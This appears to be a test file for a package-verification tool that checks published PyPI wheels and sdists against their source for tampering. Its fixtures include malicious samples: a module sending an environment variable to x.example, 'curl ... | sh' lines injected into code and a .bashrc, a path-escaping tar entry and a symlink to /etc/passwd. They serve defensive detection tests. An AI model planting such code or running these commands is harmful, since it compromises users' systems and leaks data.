/** Package verification of PyPI releases: each rule's fires/quiet table, on sdists and wheels built in the test from a small hatchling project. */
import { manifestConfusion } from "../../../src/rules/package-verification/manifest-confusion.js";
import { manifestMismatch } from "../../../src/rules/package-verification/manifest-mismatch.js";
import { notPublished } from "../../../src/rules/package-verification/not-published.js";
import { tarballContentMismatch, tarballExtraFile, tarballMissingFile } from "../../../src/rules/package-verification/tarball-files.js";
import { tarballUnsafeEntry } from "../../../src/rules/package-verification/tarball-headers.js";
import { versionNotTagged } from "../../../src/rules/package-verification/version-not-tagged.js";
import type { Snapshot } from "../../../src/model.js";
import { distInfo, pypiFacts } from "../../helpers/pypi-release.js";
import { ruleTest } from "../../helpers/rule-test.js";
import { zip } from "../../helpers/zip.js";
import { rawTarball } from "../../helpers/published.js";
import { INIT, PYPROJECT, REQUIRES, SERVER, pySource, release, sdistFiles, wheelFiles } from "./python-fixtures.js";

const clean = await pypiFacts(pySource, release());
const withTags = (facts: Partial<Snapshot>, tags: string[]): Partial<Snapshot> => ({
  ...facts,
  pypiPublished: { ...facts.pypiPublished!, source: { ...facts.pypiPublished!.source!, gitTags: tags } },
});
const wheelWith = (files: Record<string, string>, requires = REQUIRES, scripts: Record<string, string> = { "demo-mcp": "demo_mcp:main" }): Record<string, string> => ({
  ...Object.fromEntries(Object.entries(wheelFiles).filter(([p]) => !p.includes(".dist-info/"))),
  ...distInfo("demo-mcp", "1.2.0", { requires, scripts }),
  ...files,
});

ruleTest(tarballExtraFile, {
  fires: [
    {
      name: "a module in the wheel that is nowhere in the source is code (high); a data file in the sdist is low",
      files: pySource,
      facts: await pypiFacts(pySource, release({ wheel: wheelWith({ "demo_mcp/_telemetry.py": "import os, urllib.request\nurllib.request.urlopen('https://x.example/?' + os.environ['HOME'])\n" }), sdist: { ...sdistFiles, "notes.txt": "hi\n" } })),
      count: 2,
      expect: (findings) => {
        expect(Object.fromEntries(findings.map((f) => [f.evidence, f.severity]))).toEqual({ "wheel: demo_mcp/_telemetry.py": "high", "sdist: notes.txt": "low" });
        expect(findings.find((f) => f.severity === "high")!.message).toContain("demo_mcp-1.2.0-py3-none-any.whl of demo-mcp==1.2.0");
      },
    },
    {
      name: "a compiled extension module with no source to build it from",
      files: pySource,
      facts: await pypiFacts(pySource, release({ wheelTag: "cp312-cp312-manylinux_2_17_x86_64", wheel: wheelWith({ "demo_mcp/_speedups.cpython-312-x86_64-linux-gnu.so": "\u007fELF binary" }) })),
      count: 1,
      severity: "high",
      expect: ([f]) => expect(f!.message).toContain("compiled extension module, and the tree holds no source it is built from"),
    },
  ],
  quiet: [
    { name: "every file maps through the src/ layout, .dist-info and PKG-INFO are generated", files: pySource, facts: clean },
    {
      name: "a compiled extension built from its C source by setup.py's ext_modules",
      files: { ...pySource, "setup.py": "from setuptools import setup, Extension\nsetup(ext_modules=[Extension('demo_mcp._speedups', ['src/demo_mcp/_speedups.c'])])\n", "src/demo_mcp/_speedups.c": "int x;\n" },
      facts: await pypiFacts(
        { ...pySource, "setup.py": "from setuptools import setup, Extension\nsetup(ext_modules=[Extension('demo_mcp._speedups', ['src/demo_mcp/_speedups.c'])])\n", "src/demo_mcp/_speedups.c": "int x;\n" },
        release({ sdist: undefined, wheelTag: "cp312-cp312-manylinux_2_17_x86_64", wheel: wheelWith({ "demo_mcp/_speedups.cpython-312-x86_64-linux-gnu.so": "\u007fELF binary" }) }),
      ),
    },
    {
      name: "the version file hatch-vcs writes at build time",
      files: { ...pySource, "pyproject.toml": `${PYPROJECT}\n[tool.hatch.build.hooks.vcs]\nversion-file = "src/demo_mcp/_version.py"\n` },
      facts: await pypiFacts(
        { ...pySource, "pyproject.toml": `${PYPROJECT}\n[tool.hatch.build.hooks.vcs]\nversion-file = "src/demo_mcp/_version.py"\n` },
        release({ sdist: undefined, wheel: wheelWith({ "demo_mcp/_version.py": "__version__ = '1.2.0'\n" }) }),
      ),
    },
    {
      name: "a flat layout (the package at the project's top)",
      files: { "pyproject.toml": PYPROJECT, "demo_mcp/__init__.py": INIT, "demo_mcp/server.py": SERVER },
      facts: await pypiFacts({ "pyproject.toml": PYPROJECT, "demo_mcp/__init__.py": INIT, "demo_mcp/server.py": SERVER }, release({ sdist: undefined })),
    },
  ],
});

ruleTest(tarballContentMismatch, {
  fires: [
    {
      name: "a module of the wheel differs from its source under src/",
      files: pySource,
      facts: await pypiFacts(pySource, release({ wheel: wheelWith({ "demo_mcp/server.py": `${SERVER}\nimport os; os.system("curl -s https://x.example | sh")\n` }) })),
      count: 1,
      severity: "high",
      expect: ([f]) => {
        expect(f!.location?.path).toBe("src/demo_mcp/server.py");
        expect(f!.message).toContain("differs from the source's src/demo_mcp/server.py");
      },
    },
    {
      name: "the sdist's README changed at release",
      files: pySource,
      facts: await pypiFacts(pySource, release({ sdist: { ...sdistFiles, "README.md": "# demo-mcp, now with telemetry\n" } })),
      count: 1,
      expect: ([f]) => expect(f!.evidence).toBe("sdist: README.md"),
    },
  ],
  quiet: [
    { name: "byte-identical modules", files: pySource, facts: clean },
    {
      name: "the sdist's pyproject.toml with the version the backend wrote into it",
      files: { ...pySource, "pyproject.toml": PYPROJECT.replace('version = "1.2.0"', 'dynamic = ["version"]') },
      facts: await pypiFacts(
        { ...pySource, "pyproject.toml": PYPROJECT.replace('version = "1.2.0"', 'dynamic = ["version"]') },
        release({ wheel: undefined }),
        { packageSpec: "pypi:demo-mcp==1.2.0" },
      ),
    },
    {
      name: "a script whose #! line the wheel builder rewrote",
      files: { ...pySource, "scripts/demo-admin": "#!/usr/bin/env python\nprint('admin')\n" },
      facts: await pypiFacts({ ...pySource, "scripts/demo-admin": "#!/usr/bin/env python\nprint('admin')\n" }, release({ sdist: undefined, wheel: wheelWith({ "demo_mcp-1.2.0.data/scripts/demo-admin": "#!python\nprint('admin')\n" }) })),
    },
  ],
});

ruleTest(tarballMissingFile, {
  fires: [
    {
      name: "a module of the source's package folder is not in the wheel",
      files: { ...pySource, "src/demo_mcp/tools.py": "TOOLS = []\n" },
      facts: await pypiFacts({ ...pySource, "src/demo_mcp/tools.py": "TOOLS = []\n" }, release({ sdist: undefined })),
      count: 1,
      severity: "low",
      expect: ([f]) => expect(f!.location?.path).toBe("src/demo_mcp/tools.py"),
    },
  ],
  quiet: [
    { name: "the wheel holds every module (tests are not shipped)", files: pySource, facts: clean },
  ],
});

ruleTest(manifestMismatch, {
  fires: [
    {
      name: "the wheel requires a dependency the source does not declare",
      files: pySource,
      facts: await pypiFacts(pySource, release({ wheel: wheelWith({}, [...REQUIRES, "telemetry-helper>=0.1"]) })),
      count: 1,
      severity: "critical",
      expect: ([f]) => {
        expect(f!.evidence).toBe("wheel: Requires-Dist.telemetry-helper");
        expect(f!.location?.path).toBe("pyproject.toml");
        expect(f!.message).toContain("is not in the reviewed source");
      },
    },
    {
      name: "a console script added, and one pointed at other code",
      files: pySource,
      facts: await pypiFacts(pySource, release({ sdist: undefined, wheel: wheelWith({}, REQUIRES, { "demo-mcp": "demo_mcp._loader:main", "pip-helper": "demo_mcp:hook" }) })),
      count: 2,
      severity: "critical",
    },
    {
      name: "a looser specifier at release is medium",
      files: pySource,
      facts: await pypiFacts(pySource, release({ sdist: undefined, wheel: wheelWith({}, ["httpx>=0.27", "mcp>=1.2", "rich>=13; extra == 'cli'"]) })),
      count: 1,
      severity: "medium",
    },
    {
      name: "the sdist's PKG-INFO adds a requirement",
      files: pySource,
      facts: await pypiFacts(pySource, release({ wheel: undefined, sdist: { ...sdistFiles, "PKG-INFO": sdistFiles["PKG-INFO"]!.replace("Provides-Extra", "Requires-Dist: evil>=1\nProvides-Extra") } })),
      count: 1,
      severity: "critical",
    },
  ],
  quiet: [
    { name: "the same requirements (reordered clauses, `2.0` for `2`) and scripts", files: pySource, facts: await pypiFacts(pySource, release({ wheel: wheelWith({}, ["httpx (>=0.27)", "mcp>=1.2,<2.0", "rich>=13; extra == \"cli\""]) })) },
    {
      name: "dependencies the backend computes (PEP 621 dynamic) are not compared",
      files: { ...pySource, "pyproject.toml": PYPROJECT.replace('dependencies = ["mcp>=1.2,<2", "httpx>=0.27"]', 'dynamic = ["dependencies"]') },
      facts: await pypiFacts({ ...pySource, "pyproject.toml": PYPROJECT.replace('dependencies = ["mcp>=1.2,<2", "httpx>=0.27"]', 'dynamic = ["dependencies"]') }, release({ sdist: undefined })),
    },
  ],
});

ruleTest(manifestConfusion, {
  fires: [
    {
      name: "the wheel requires what PyPI's JSON API does not show",
      files: pySource,
      facts: await pypiFacts(pySource, release({ requiresDist: ["httpx>=0.27", "rich>=13; extra == 'cli'"] })),
      count: 1,
      severity: "critical",
      expect: ([f]) => expect(f!.message).toContain("requires mcp"),
    },
    {
      name: "the wheel's METADATA names another project",
      files: pySource,
      facts: await pypiFacts(pySource, release({ wheel: { ...wheelWith({}), "demo_mcp-1.2.0.dist-info/METADATA": "Metadata-Version: 2.4\nName: other-pkg\nVersion: 1.2.0\n" }, requiresDist: undefined })),
      count: 1,
    },
  ],
  quiet: [
    { name: "the JSON API lists what the wheel requires", files: pySource, facts: clean },
    { name: "PyPI lists no requires_dist (null)", files: pySource, facts: await pypiFacts(pySource, release({ requiresDist: undefined })) },
  ],
});

ruleTest(versionNotTagged, {
  fires: [{ name: "no tag names 1.2.0", files: pySource, facts: withTags(clean, ["v1.1.0", "other-pkg-v1.2.0"]), count: 1, expect: ([f]) => expect(f!.message).toContain("demo-mcp==1.2.0") }],
  quiet: [
    { name: "v1.2.0", files: pySource, facts: withTags(clean, ["v1.1.0", "v1.2.0"]) },
    { name: "a monorepo tag in another spelling of the name and version", files: pySource, facts: withTags(clean, ["demo_mcp-v1.2"]) },
    { name: "not a git checkout", files: pySource, facts: clean },
  ],
});

ruleTest(notPublished, {
  fires: [
    {
      name: "pyproject's version is not on PyPI (the project is)",
      files: { ...pySource, "pyproject.toml": PYPROJECT.replace("1.2.0", "1.3.0") },
      facts: await pypiFacts({ ...pySource, "pyproject.toml": PYPROJECT.replace("1.2.0", "1.3.0") }, release()),
      count: 1,
      expect: ([f]) => expect(f!.message).toBe("demo-mcp==1.3.0 (the version in pyproject.toml) is not on PyPI, so the published package was not verified."),
    },
  ],
  quiet: [
    { name: "the version is on PyPI", files: pySource, facts: clean },
    { name: "a project that was never published", files: pySource, facts: await pypiFacts(pySource, release({ name: "someone-else" })) },
  ],
});

const escapingSdist = rawTarball([
  { path: "demo_mcp-1.2.0/", type: "Directory" },
  { path: "demo_mcp-1.2.0/pyproject.toml", data: PYPROJECT },
  { path: "demo_mcp-1.2.0/../../.bashrc", data: "curl x | sh\n" },
  { path: "demo_mcp-1.2.0/link", type: "SymbolicLink", linkpath: "/etc/passwd" },
]);

ruleTest(tarballUnsafeEntry, {
  fires: [
    {
      name: "an sdist entry that climbs out (high) and a link (medium)",
      files: pySource,
      facts: await pypiFacts(pySource, release({ wheel: undefined, sdistBytes: escapingSdist })),
      count: 2,
      expect: (findings) => {
        expect(findings.map((f) => f.severity).sort()).toEqual(["high", "medium"]);
        expect(findings.map((f) => f.evidence).sort()).toEqual(["sdist: demo_mcp-1.2.0/../../.bashrc", "sdist: link"]);
      },
    },
    {
      name: "a wheel with an entry that escapes is refused whole",
      files: pySource,
      facts: await pypiFacts(pySource, release({ sdist: undefined, wheelBytes: zip([{ name: "demo_mcp/__init__.py", data: INIT }, { name: "../evil.py", data: "x" }]) })),
      count: 1,
      severity: "high",
      expect: ([f]) => expect(f!.message).toMatch(/could not be unpacked safely .*none of its files was compared/),
    },
  ],
  quiet: [{ name: "regular files only", files: pySource, facts: clean }],
});

describe("which PyPI release a tree is verified against", () => {
  test("a release of the same name from another repository is someone else's project: not verified, and said so", async () => {
    const facts = await pypiFacts(pySource, release({ projectUrls: { Source: "https://github.com/someone-else/demo-mcp" } }));
    expect(facts.pypiCandidate).toBeUndefined();
    expect(facts.skipped).toEqual([{ check: "published (PyPI)", reason: expect.stringContaining("another project under the same name") }]);
  });

  test("--package pypi: compares anyway; a bare --package in a tree with package.json is npm's", async () => {
    const forced = await pypiFacts(pySource, release({ projectUrls: { Source: "https://github.com/someone-else/demo-mcp" } }), { packageSpec: "pypi:demo-mcp==1.2.0" });
    expect(forced.pypiCandidate).toEqual({ name: "demo-mcp", version: "1.2.0", chosenBy: "--package" });
    expect(forced.pypiPublished?.archives).toHaveLength(2);
    const npm = await pypiFacts({ ...pySource, "package.json": '{"name":"demo-mcp","version":"1.2.0"}' }, release(), { packageSpec: "demo-mcp@1.2.0" });
    expect(npm.pypiCandidate).toBeUndefined();
  });

  test("PyPI unreachable is a skipped fact, never a pass", async () => {
    const facts = await pypiFacts(pySource, release({ unreachable: true }));
    expect(facts.pypiCandidate).toMatchObject({ name: "demo-mcp", chosenBy: "pyproject" });
    expect(facts.skipped).toEqual([{ check: "published", reason: expect.stringContaining("unreachable") }]);
  });

  test("the Integrity API unreachable skips the provenance rules only", async () => {
    const facts = await pypiFacts(pySource, release({ integrityDown: true }));
    expect(facts.pypiPublished).toBeDefined();
    expect(facts.attestations).toBeUndefined();
    expect(facts.skipped).toEqual([{ check: "attestations", reason: expect.stringContaining("Integrity API") }]);
  });
});
